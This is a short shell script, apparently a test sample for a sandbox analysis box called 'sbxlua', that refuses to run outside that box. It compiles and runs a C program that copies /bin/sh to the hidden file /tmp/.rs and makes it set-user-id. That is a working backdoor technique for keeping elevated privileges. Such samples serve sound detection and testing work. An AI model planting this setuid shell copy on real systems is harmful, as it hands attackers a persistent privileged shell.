#!/bin/sh
# SPDX-License-Identifier: MIT
# Leaves a set-user-id copy of the shell behind, from C: chmod 04755 on
# a copy it made.
# (A C program, built in the box with gcc and run.)
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
d=$(mktemp -d)
cat > "$d/p.c" <<'EOF'
#include <stdio.h>
#include <sys/stat.h>
int main(void)
{
	FILE *in = fopen("/bin/sh", "rb"), *out = fopen("/tmp/.rs", "wb");
	char buf[4096];
	size_t n;
	if (!in || !out) return 0;
	while ((n = fread(buf, 1, sizeof buf, in)) > 0) fwrite(buf, 1, n, out);
	fclose(in);
	fclose(out);
	if (chmod("/tmp/.rs", 04755) != 0) perror("chmod");
	return 0;
}
EOF
gcc -O0 -o "$d/p" "$d/p.c" || exit 0
"$d/p"
rm -rf "$d"
exit 0
